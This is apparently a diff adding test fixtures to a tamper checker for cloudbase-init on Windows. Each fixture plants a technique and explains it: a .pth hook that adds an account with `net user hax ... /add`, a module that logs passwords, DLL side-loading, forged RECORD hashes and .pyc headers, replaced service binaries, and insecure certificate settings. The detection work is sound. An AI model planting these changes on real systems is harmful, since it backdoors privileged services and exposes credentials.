@@ -1,4 +1,9 @@
 """cloudbase-init: another configuration, other modules of Python, scripts of its own."""
+import base64
+import hashlib
+import os
+import struct
+
 from windows_disk import *
 
 change = Changes()
@@ -87,3 +92,80 @@ change.row('path-of-modules-in-the-registry', 'Python adds the subkeys of Python
            lambda d: d.software(r'Python\PythonCore\3.11\PythonPath\x', '', SZ, r'C:\evil'))
 change.row('configuration-in-two-cases', 'Of two names that differ by case alone one is opened, here nobody knows which.', SETTINGS, 'Cloudbase-Init.conf',
            lambda d: d.twin(rf'{CBI}\conf\Cloudbase-Init.conf', b'[DEFAULT]\nplugins=evil.X\n'))
+
+# --- the files of its Python, and of the programs beside it: each is explained ---
+MODULE = 'import logging\n\n\ndef get_password(password):\n    logging.info(password)\n    return password\n'
+file('module-that-is-changed', SERVICE, 'setuserpassword.py', rf'{PACKAGES}\cloudbaseinit\plugins\common\setuserpassword.py', MODULE,
+     'The module is imported as it is; no release has these bytes.')
+file('module-at-another-place', SERVICE, r'oslo_i18n/__init__.py', rf'{PACKAGES}\oslo_i18n\__init__.py', 'from .iso8601 import *\n',
+     'A released file (iso8601 1.0.0) that lies where another package is imported from.')
+file('library-of-python-that-nobody-signed', SERVICE, '_yaml.cp311-win_amd64.pyd', rf'{PACKAGES}\yaml\_yaml.cp311-win_amd64.pyd', program('_yaml.pyd'), 'import loads a .pyd as a library.')
+file('standard-module-that-is-changed', SERVICE, 'Lib/os.py', rf'{PYTHON}\Lib\os.py', MODULE, 'Each start of Python imports os.')
+file('certificates-that-are-changed', SERVICE, 'cacert.pem', rf'{PACKAGES}\certifi\cacert.pem', '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n',
+     'requests takes those for trusted whom certifi lists.')
+change.row('record-that-vouches', 'Whoever writes a file can write the line of RECORD for it as well.', SERVICE, 'vendor/x.py', lambda d: (
+    d.put(rf'{PACKAGES}\vendor\x.py', MODULE), d.put(rf'{PACKAGES}\vendor-1.dist-info\RECORD',
+                                                    f'vendor/x.py,sha256={base64.urlsafe_b64encode(hashlib.sha256(MODULE.encode()).digest()).decode()},{len(MODULE)}\n')))
+file('folder-beside-the-program', SERVICE, 'bin/version.dll', rf'{CBI}\bin\version.dll', program('version.dll'), 'A library beside a program is loaded before that of System32.')
+
+
+@change(SERVICE, 'pywin32_bootstrap.py')
+def module_behind_a_known_line(d):
+    """The line of pywin32.pth is the usual one, and site.py imports the module that it names, whatever stands in it."""
+    d.put(rf'{PACKAGES}\pywin32.pth', '# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\nPythonwin\r\nimport pywin32_bootstrap\r\n')
+    d.put(rf'{PACKAGES}\win32\lib\pywin32_bootstrap.py', 'import os\nos.system("net user hax P@ss.2024 /add")\n')
+
+
+@change(SERVICE, 'data.bin')
+def archive_in_a_pth(d):
+    """A line of a .pth that names a file makes it an archive of modules (zipimport), whatever its ending."""
+    d.put(rf'{PACKAGES}\data.pth', 'data.bin\r\n')
+    d.put(rf'{PACKAGES}\data.bin', b'PK\x05\x06' + bytes(18))
+
+
+@change(SERVICE, '__pycache__')
+def compiled_module(d):
+    """Python takes a compiled file for its source where the time and the length in its head are the source's (PEP 552)."""
+    source = rf'{PACKAGES}\iso8601\__init__.py'
+    d.put(source, 'from .iso8601 import *\n')
+    about = os.stat(d.find(source))
+    d.put(rf'{PACKAGES}\iso8601\__pycache__\__init__.cpython-311.pyc', struct.pack('<IIII', 0x0A0D0DA7, 0, int(about.st_mtime), about.st_size) + b'\xe3' + bytes(40))
+
+
+@change(SERVICE, 'iso8601')
+def packages_elsewhere(d):
+    """A junction among the packages is a package of another folder."""
+    d.put(r'ProgramData\p\__init__.py', MODULE)
+    d.junction(rf'{PACKAGES}\iso8601', r'C:\ProgramData\p')
+
+
+def replaced(name, path, why, make=None):
+    change.row(name, why, SERVICE, path.rpartition('\\')[2], make or (lambda d: d.foreign(path)))
+
+
+replaced('wrapper-replaced', rf'{CBI}\bin\OpenStackService.exe', 'The wrapper is started as the system; nobody signed this one.')
+replaced('wrapper-of-another-name', rf'{CBI}\bin\OpenStackService.exe', 'A signed program does what it was made for, under any name.',
+         lambda d: d.put(rf'{CBI}\bin\OpenStackService.exe', d.read(r'Windows\explorer.exe')))
+replaced('wrapper-in-another-folder', rf'{CBI}\srv\OpenStackService.exe', 'Whatever lies beside the program of the service is loaded by it.', lambda d: (
+    d.foreign(rf'{CBI}\srv\OpenStackService.exe'), d.system(rf'{SERVICES}\cloudbase-init', 'ImagePath', EXPAND, runs(OWN).replace(r'\bin\Open', r'\srv\Open'))))
+replaced('unpacker-replaced', rf'{CBI}\bin\bsdtar.exe', 'cloudbase-init unpacks the disc of metadata with the program of this name.')
+replaced('program-replaced', rf'{PYTHON}\Scripts\cloudbase-init.exe', 'What the wrapper starts.')
+replaced('interpreter-replaced', rf'{PYTHON}\python.exe', 'What launchers start.')
+
+# --- options ---
+line('renamed-administrator', 'rename_admin_user gives the built-in administrator the name of `username`, and CreateUserPlugin sets its password.', 'rename_admin_user',
+     'rename_admin_user=true')
+line('groups-of-the-account', 'groups are those that the account is made a member of.', 'groups', 'groups=Administrators,Hyper-V Administrators')
+line('authority-of-the-metadata', 'https_ca_bundle names whom the metadata service is taken for.', 'https_ca_bundle', '', '\r\n[openstack]\r\nhttps_ca_bundle=C:\\x.pem\r\n')
+line('metadata-of-anybody', 'https_allow_insecure takes any certificate.', 'https_allow_insecure', '', '\r\n[openstack]\r\nhttps_allow_insecure=true\r\n')
+change.row('another-source-first', 'The first source that answers is the one: here one of the network, before the disc of the provider.', SETTINGS, 'metadata_services',
+           lambda d: d.edit(CONFIG, 'cloudbaseinit.metadata.services.configdrive.ConfigDriveService',
+                            'cloudbaseinit.metadata.services.httpservice.HttpService,cloudbaseinit.metadata.services.configdrive.ConfigDriveService'))
+
+# --- the disc of its instance ---
+change.row('discs-are-off', 'Without cdrom.sys Windows shows no disc, and cloudbase-init finds no instance.', SERVICE, 'cdrom', lambda d: d.driver('cdrom', r'System32\drivers\ntfs.sys', 4))
+change.row('no-letters', 'NoAutoMount (mountvol /n) gives new volumes no letters.', SERVICE, 'NoAutoMount', lambda d: d.system(rf'{SERVICES}\mountmgr', 'NoAutoMount', DWORD, 1))
+change.row('disks-stay-offline', 'SanPolicy 3 (diskpart san policy=OfflineAll) leaves the disks that a customer adds offline.', SERVICE, 'SanPolicy',
+           lambda d: d.system(rf'{SERVICES}\partmgr\Parameters', 'SanPolicy', DWORD, 3))
+change.row('discs-are-forbidden', 'The policy over removable storage keeps discs from being read.', SERVICE, 'Deny_Read', lambda d: d.software(
+    r'Policies\Microsoft\Windows\RemovableStorageDevices\{53f56308-b6bf-11d0-94f2-00a0c91efb8b}', 'Deny_Read', DWORD, 1))
